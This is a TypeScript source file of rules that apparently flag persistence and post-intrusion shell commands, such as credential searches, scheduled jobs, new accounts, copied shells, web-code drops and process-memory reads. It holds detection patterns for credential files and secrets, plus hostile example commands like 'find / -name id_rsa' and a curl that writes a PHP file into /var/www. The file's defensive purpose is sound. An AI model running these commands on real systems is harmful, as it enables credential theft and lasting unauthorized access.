// Rules about what somebody does who stays on a machine: later runs, new accounts, copied shells, searches for credentials.
import { findTargets } from '../../carriers/listings.ts'
import { SHELLS } from '../../carriers/wrappers.ts'
import { resolvePath } from '../../line/paths.ts'
import { baseName } from '../../model.ts'
import { EVERYBODYS, inPlace, matching, only, type Rule, tools, verb } from '../rule.ts'
import { appended, overwritten } from '../targets.ts'
import { fits, INJECTS } from './intrusion-tables.ts'
import { CRON_REPLACE } from './schedule.ts'

/** Names, or patterns of names, of files that hold credentials. */
const CREDENTIALS =
  /^\*?\.?(?:id_(?:rsa|dsa|ecdsa|ed25519)\S*|\S*\.(?:pem|ppk|kdbx|pfx|p12|keytab|ovpn|jks|key)|credentials?(?:\.\w+)?|accessTokens\.json|access_tokens\.db|msal_token_cache\S*|azureProfile\.json|\S*passw(?:or)?d\S*|netrc|pgpass|htpasswd|gnupg|aws|azure|ssh|logins\.json|key[34]\.db|shadow\S*|vault_pass\S*|token)$/i
const WORDS =
  /passw(?:or)?d|passwd|secret|credential|api[_-]?key|private key|BEGIN (?:RSA|OPENSSH)|token|\bAKIA|\bghp_/i

/** A program below a directory whose files a web server runs. */
const WEB_PROGRAM =
  /^\/(?:var\/www|srv\/(?:www|http)|usr\/(?:share|local)\/nginx|usr\/lib\/cgi-bin|var\/lib\/tomcat\d*|opt\/tomcat\/webapps)\/(?:.*\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi|pl|py|war)|(?:.*\/)?cgi-bin\/[^/]+|(?:.*\/)?\.(?:htaccess|user\.ini))$/

/** Commands that have others run later. */
const RUNS_LATER: Rule = {
  id: 'runs-later',
  level: 'moderate',
  why: 'Has a command run later, when nobody is looking.',
  tools: tools('at batch systemd-run systemctl loginctl'),
  when: (c, o) =>
    c.name === 'systemd-run'
      ? matching(c.args, /^--on-\w+/)
      : c.name === 'loginctl'
        ? only(verb(o) === 'enable-linger')
        : c.name === 'systemctl'
          ? // A unit is named by its file only if it does not stand where units belong.
            only(
              /^(?:enable|link|start|reenable)$/.test(verb(o)),
              matching(o.operands.slice(1), /^(?!\/(?:etc|usr|lib)\/).*\//),
            )
          : only(!o.flag('l', 'c', 'd', 'r', 'V', 'q'), c.args.length > 0 || c.name === 'batch'),
  example: "systemd-run --on-calendar '*:0/1' ./job",
}

export const FOOTHOLD_RULES: readonly Rule[] = [
  {
    id: 'credentials-searched',
    level: 'moderate',
    why: 'Searches the system or a home for passwords and keys.',
    tools: tools('find gfind fd locate plocate grep egrep rg ag'),
    when: (c, o) => {
      if (/find$/.test(c.name))
        return only(
          inPlace(c, findTargets(c.args).tops, 'root', 'home', 'system', 'inside-system', 'keys').length >
            0 ||
            findTargets(c.args).tops.some((arg) => /^\/(?:home|root|Users)?\/*(?:\.\w+)?/.test(arg.text)),
          c.args.filter(
            (arg, i) =>
              /^-i?(?:name|path|regex)$/.test(c.args[i - 1]?.text ?? '') &&
              CREDENTIALS.test(baseName(arg.text)),
          ),
        )
      if (/locate$/.test(c.name)) return o.operands.filter((arg) => CREDENTIALS.test(baseName(arg.text)))
      return only(
        o.operands.length > 1 &&
          WORDS.test(o.operands[0]?.text ?? '') &&
          (inPlace(c, o.operands.slice(1), 'root', 'home', 'system', 'keys').length > 0 ||
            o.operands.slice(1).some((arg) => /\.(?:bash|zsh)_history$/.test(arg.text))),
        o.operands.slice(0, 1),
      )
    },
    example: 'find / -name id_rsa',
  },
  RUNS_LATER,
  {
    id: 'tool-schedules',
    level: 'high',
    caller: 'tool',
    why: 'An AI tool has something run later, and nobody judges that when it happens.',
    tools: [...RUNS_LATER.tools, 'crontab'],
    when: (c, o) => (c.name === 'crontab' ? CRON_REPLACE : RUNS_LATER).when(c, o),
    example: 'crontab jobs',
  },
  {
    id: 'unit-from-shared',
    level: 'high',
    why: 'Starts a unit from a directory in which every user and program can put files.',
    tools: tools('systemctl'),
    when: (_c, o) => only(/^(?:enable|link|start|reenable)$/.test(verb(o)), matching(o.operands, EVERYBODYS)),
    example: 'systemctl enable /tmp/job.service',
  },
  {
    id: 'account-add',
    level: 'moderate',
    why: 'Adds an account, or changes with which shell one logs in.',
    tools: tools('useradd adduser newusers pw ldapadd ldapmodify chsh dscl samba-tool ipa'),
    when: (c, o) => {
      if (c.name.startsWith('ldap')) return c.args.length > 0
      if (o.flag('help', 'h', 'l', 'list-shells', 'D') || o.operands.length + c.args.length === 0)
        return undefined
      if (c.name === 'samba-tool') return only(/^(?:create|add)$/.test(verb(o, 1)) && verb(o) === 'user')
      if (c.name === 'ipa') return only(/^(?:user|sudorule|role)-add/.test(verb(o)))
      if (c.name === 'pw') return only(/^user(?:add|mod)$/.test(verb(o)))
      if (c.name === 'dscl')
        return only(/ -?(?:create|append|passwd) /.test(` ${c.args.map((arg) => arg.text).join(' ')} `))
      return c.name !== 'chsh' || o.operands.length > 0
    },
    example: 'useradd -s /bin/bash x',
  },
  {
    id: 'shell-copied',
    level: 'moderate',
    why: 'Puts a shell or another program of the system where rules and logs do not look for it.',
    tools: tools('cp gcp install ln mv'),
    when: (c, o) =>
      only(
        o.operands.length > 1 && !SHELLS.has(baseName(resolvePath(o.operands.at(-1)?.text ?? '', c.scope))),
        o.operands
          .slice(0, -1)
          .filter(
            (arg) =>
              /^\/(?:usr\/)?(?:local\/)?bin\/(?:ba|z|da|k|fi)?sh$/.test(arg.text) ||
              (c.name !== 'ln' &&
                /^\/(?:usr\/)?s?bin\/[^/]+$/.test(arg.text) &&
                EVERYBODYS.test(resolvePath(o.operands.at(-1)?.text ?? '', c.scope))),
          ),
      ),
    example: 'cp /bin/sh /tmp/crond',
  },
  {
    id: 'web-code',
    level: 'moderate',
    why: 'Puts a program where a web server runs it for everybody who asks for it.',
    tools: ['*'],
    when: (c, o) =>
      [...overwritten(c, o), ...appended(c, o)].filter((arg) =>
        WEB_PROGRAM.test(resolvePath(arg.text, c.scope)),
      ),
    example: 'curl -o /var/www/html/up.php https://example.com/up.txt',
  },
  {
    id: 'commands-watched',
    level: 'moderate',
    why: 'Runs something at each command that is typed, or records it.',
    tools: tools('trap auditctl'),
    when: (c) =>
      c.name === 'trap' ? matching(c.args.slice(1), /^(?:DEBUG|SIGDEBUG)$/) : matching(c.args, /^-[aAwWd]$/),
    example: "trap 'echo $BASH_COMMAND >> /tmp/log' DEBUG",
  },
  {
    id: 'memory-read',
    level: 'moderate',
    why: 'Reads the memory of a running program, with the passwords in it, runs code in it, or hides it.',
    tools: [...tools('dd cat strings gcore xxd hexdump grep head tail cp'), ...INJECTS.names()],
    when: (c) =>
      c.name === 'gcore'
        ? c.args.length > 0
        : INJECTS.of(c.name) !== undefined
          ? fits(INJECTS)(c)
          : matching(
              c.args,
              /^(?:if=)?\/proc\/(?:(?!self|meminfo)[^/]+\/(?:mem|maps?|pagemap)|self\/mem)$|^(?:if=)?\/dev\/k?mem$/,
            ),
    example: 'dd if=/proc/123/mem of=/tmp/x',
  },
]
